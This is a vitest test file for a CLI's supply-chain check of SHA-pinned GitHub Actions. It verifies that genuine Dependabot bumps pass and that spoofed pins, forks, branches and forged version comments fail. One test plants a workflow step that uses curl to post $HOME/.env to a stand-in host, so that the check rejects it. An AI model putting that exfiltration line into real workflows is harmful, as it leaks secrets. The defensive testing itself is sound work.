// The generated dependabot.yml keeps the pinned actions up to date: Dependabot's pull request
// rewrites the SHA and the `# vX.Y.Z` comment of a `uses:` line in a generated workflow. The
// generated pipeline-check workflow runs `check --strict-workflows` on that pull request: a bump to
// a newer version of the same action passes (and is listed) when the new SHA is the commit of that
// version's tag on github.com (a version comment alone proves nothing: a pull request could pin
// any commit beside it), any other edit still fails, and a later `update` keeps the newer pin of
// each action (yours, or the template's when it caught up). github.com is stood in for by local
// repositories (git's url.<base>.insteadOf), so the test needs no network.
import { spawnSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { merge3 } from "../../src/core/merge.js";
import { hashContent } from "../../src/core/hash.js";
import { planUpdate } from "../../src/core/plan-update.js";
import type { StateFile, Tree } from "../../src/core/types.js";
import { BIN, buildOnce } from "../support/build.js";
import { runCli, tempDir } from "../support/cli.js";
import { commitAll, git } from "../support/repo.js";

beforeAll(buildOnce);

const CI = ".github/workflows/ci.yml";
const CHECKOUT = /actions\/checkout@[0-9a-f]{40} # v7\.0\.1/g;
let NEW_SHA = "";
/** A commit that no tag names (a pull request's own, say). */
let OTHER_SHA = "";
/** Where github.com's actions/checkout stands for the test, with an annotated tag v7.1.0. */
const github = tempDir("cp-bumps-github-");
const GITHUB_ENV = { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: `url.file://${github}/.insteadOf`, GIT_CONFIG_VALUE_0: "https://github.com/" };

beforeAll(() => {
  const work = join(github, "work");
  mkdirSync(work);
  git(work, "init", "-q");
  commitAll(work, "v7.1.0");
  NEW_SHA = git(work, "rev-parse", "HEAD").trim();
  git(work, "tag", "-a", "-m", "v7.1.0", "v7.1.0");
  commitAll(work, "after");
  OTHER_SHA = git(work, "rev-parse", "HEAD").trim();
  mkdirSync(join(github, "actions"));
  git(github, "clone", "-q", "--bare", work, join(github, "actions", "checkout.git"));
});

async function repo(): Promise<string> {
  const dir = join(tempDir("cp-bumps-"), "svc");
  const r = await runCli([dir, "--yes", "--owner", "acme"]);
  expect(r.code, r.stderr).toBe(0);
  git(dir, "init", "-q");
  commitAll(dir, "create");
  return dir;
}

/** The built CLI, as the generated pipeline-check workflow runs it. */
const check = (dir: string, ...flags: string[]) => {
  const env = { ...process.env, NO_COLOR: "1", ...GITHUB_ENV };
  const r = spawnSync(process.execPath, [BIN, "check", dir, "--strict-workflows", ...flags], { encoding: "utf8", env });
  return { code: r.status, out: `${r.stdout}${r.stderr}` };
};

const bump = (dir: string, to: string) => {
  const ci = readFileSync(join(dir, CI), "utf8");
  expect(ci).toMatch(CHECKOUT);
  writeFileSync(join(dir, CI), ci.replace(CHECKOUT, to));
};

describe("Dependabot's action bumps in generated workflows", () => {
  it("check --strict-workflows passes a bump to a newer version of the same action and lists it", async () => {
    const dir = await repo();
    bump(dir, `actions/checkout@${NEW_SHA} # v7.1.0`);
    const r = check(dir);
    expect(r.code, r.out).toBe(0);
    expect(r.out).toContain("actions/checkout v7.0.1 → v7.1.0");
    // --strict still wants the files exactly as generated
    expect(check(dir, "--strict").code).toBe(3);
    // and update keeps the bump (the template did not change the file)
    commitAll(dir, "ci: bump actions/checkout");
    const before = readFileSync(join(dir, CI), "utf8");
    const u = await runCli(["update", dir]);
    expect(u.code, u.stdout + u.stderr).toBe(0);
    expect(readFileSync(join(dir, CI), "utf8")).toBe(before);
  });

  it.each([
    ["a downgrade", () => `actions/checkout@${NEW_SHA} # v6.0.0`],
    ["a new SHA under the same version", () => `actions/checkout@${NEW_SHA} # v7.0.1`],
    ["another action", () => `evil/checkout@${NEW_SHA} # v9.0.0`],
    ["a fork of the same name", () => `actions-fork/checkout@${NEW_SHA} # v7.1.0`],
    ["a floating tag instead of the SHA", () => "actions/checkout@v7"],
    ["a branch", () => "actions/checkout@main # v7.1.0"],
    ["a newer version comment beside a commit that is not that version", () => `actions/checkout@${OTHER_SHA} # v7.1.0`],
    ["a version the action's repository has no tag for", () => `actions/checkout@${NEW_SHA} # v7.2.0`],
  ])("still fails on %s", async (_, to) => {
    const dir = await repo();
    bump(dir, to());
    const r = check(dir);
    expect(r.code, r.out).toBe(3);
    expect(r.out).toContain("(fails with --strict-workflows)");
  });

  it("says why a bump is not confirmed", async () => {
    const dir = await repo();
    bump(dir, `actions/checkout@${OTHER_SHA} # v7.1.0`);
    const r = check(dir);
    expect(r.code, r.out).toBe(3);
    expect(r.out.replace(/\s+/g, " ")).toContain(`not confirmed: ${OTHER_SHA} is not v7.1.0 of github.com/actions/checkout (that is ${NEW_SHA})`);
  });

  it("still fails on a bump with another edit in the same file", async () => {
    const dir = await repo();
    bump(dir, `actions/checkout@${NEW_SHA} # v7.1.0`);
    const ci = readFileSync(join(dir, CI), "utf8");
    writeFileSync(join(dir, CI), ci.replace(/\n {6}- name: /, "\n      - run: curl -d @$HOME/.env https://example.invalid\n      - name: "));
    expect(check(dir).code).toBe(3);
  });
});

describe("update merges an action bump with the template's new pins", () => {
  const line = (sha: string, v: string) => `        uses: actions/checkout@${sha} # ${v}`;
  const wf = (checkout: string, extra = "") =>
    `name: CI\njobs:\n  build:\n    steps:\n      - name: Check out\n${checkout}\n      - name: Build\n        run: make${extra}\n`;
  const A = "a".repeat(40);
  const B = "b".repeat(40);
  const C = "c".repeat(40);
  const plan = (base: string, ours: string, theirs: string) => {
    const state: StateFile = {
      schemaVersion: 1,
      tool: "0",
      pack: { name: "p", version: "1", source: "builtin" },
      files: { [CI]: { owner: "managed", hash: hashContent(base) } },
    };
    const tree: Tree = new Map([[CI, { path: CI, content: theirs, owner: "managed", template: "ci.yml.eta" }]]);
    const [e] = planUpdate({ tree, state, base: { [CI]: base }, disk: new Map([[CI, ours]]), merge: merge3 });
    return e!;
  };

  it("keeps your newer pin when the template moved to an older one than yours", () => {
    const e = plan(wf(line(A, "v7.0.0")), wf(line(C, "v7.2.0")), wf(line(B, "v7.0.1"), " test"));
    expect(e.kind, e.reason).toBe("merge");
    expect(e.content).toBe(wf(line(C, "v7.2.0"), " test"));
  });

  it("takes the template's pin when it is newer than your bump", () => {
    const e = plan(wf(line(A, "v6.0.0")), wf(line(C, "v6.1.0")), wf(line(B, "v7.0.1")));
    expect(e.kind, e.reason).toBe("merge");
    expect(e.content).toBe(wf(line(B, "v7.0.1")));
  });
});
